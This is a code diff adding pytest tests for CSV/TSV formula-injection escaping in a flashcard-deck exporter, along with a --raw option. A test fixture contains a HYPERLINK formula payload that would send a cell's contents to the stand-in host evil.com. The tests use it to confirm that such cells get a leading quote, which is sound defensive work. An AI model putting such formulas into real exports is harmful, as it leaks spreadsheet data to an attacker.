@@ -209,8 +209,88 @@ def test_write_atomically_names_an_unwritable_folder(tmp_path, monkeypatch):
     def refuse(*args, **kwargs):
         raise PermissionError(13, "Permission denied")
 
-    monkeypatch.setattr("brokerquiz.core.csvexport.tempfile.mkstemp", refuse)
+    monkeypatch.setattr("brokerquiz.core.atomic_write._anonymous", lambda folder: None)  # no O_TMPFILE here
+    monkeypatch.setattr("brokerquiz.core.atomic_write.tempfile.mkstemp", refuse)
     with pytest.raises(ExportError) as error:
         write_atomically(tmp_path / "x.csv", lambda tmp: None)
     assert str(error.value) == f"cannot write {tmp_path / 'x.csv'}: permission denied"
     assert list(tmp_path.iterdir()) == []
+
+
+# --- formula injection (https://owasp.org/www-community/attacks/CSV_Injection) -----------------
+
+FORMULA_YAML = """\
+id: formula
+title: Formulas
+language: en
+subjects:
+  a: "=HYPERLINK(\\"http://evil.example/?\\"&A1)"
+  b: Plain
+tables:
+  t:
+    title: T
+    rows:
+      r:
+        label: L
+        a: "+1 partition"
+        b: "- a bullet"
+      s:
+        label: S
+        a: "-"
+        b: ok
+"""
+
+
+@pytest.fixture
+def formula_cards(tmp_path):
+    path = tmp_path / "formula.yaml"
+    path.write_text(FORMULA_YAML, encoding="utf-8")
+    cards = generate_cards(load_deck(path))
+    # the deck reader strips a leading tab; a card from elsewhere (a database row) may still have one
+    return [*cards, cards[0]._replace(id="x/1", front="@SUM(A1:A9)", back="\tcmd", tags=("-x",))]
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def tsv_cells(text: str) -> list[str]:
+    return [cell for line in text.splitlines() for cell in line.split("\t")]
+
+
+@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
+def test_no_cell_starts_like_a_formula(formula_cards, tsv):
+    cells = (tsv_cells if tsv else csv_cells)(render(formula_cards, "en", tsv=tsv))
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'+1 partition" in cells and "'- a bullet" in cells and "'-" in cells  # uniformly, legit text too
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+    assert any(cell.startswith("'@SUM(A1:A9)") for cell in cells)
+    assert (" cmd" if tsv else "'\tcmd") in cells  # TSV turns the tab into a space: no formula then
+    assert "ok" in cells and "'-x" in cells  # only cells that would be formulas change; tags too
+
+
+@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
+def test_raw_writes_formula_cells_as_they_are(formula_cards, tsv):
+    cells = (tsv_cells if tsv else csv_cells)(render(formula_cards, "en", tsv=tsv, raw=True))
+    assert "+1 partition" in cells and "- a bullet" in cells and "-" in cells
+    assert not [cell for cell in cells if cell.startswith("'")]
+
+
+@pytest.mark.parametrize("ext", ["csv", "tsv"])
+def test_cli_escapes_unless_raw(formula_cards, tmp_path, ext):
+    deck = tmp_path / "formula.yaml"
+    safe = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", "-"])
+    raw = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", "-", "--raw"])
+    assert safe.exit_code == raw.exit_code == 0
+    assert safe.stdout == render(formula_cards[:-1], "en", tsv=ext == "tsv")
+    assert raw.stdout == render(formula_cards[:-1], "en", tsv=ext == "tsv", raw=True) != safe.stdout
+    target = tmp_path / f"out.{ext}"
+    written = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", str(target), "--raw"])
+    assert written.exit_code == 0 and target.read_text(encoding="utf-8") == raw.stdout
+
+
+def test_help_documents_raw_and_force():
+    for ext in ("csv", "tsv"):
+        text = " ".join(CliRunner().invoke(cli, ["export", ext, "--help"]).output.split())
+        assert "--raw" in text and "leading '" in text and "--force" in text
+    assert "--force" in CliRunner().invoke(cli, ["export", "anki", "--help"]).output
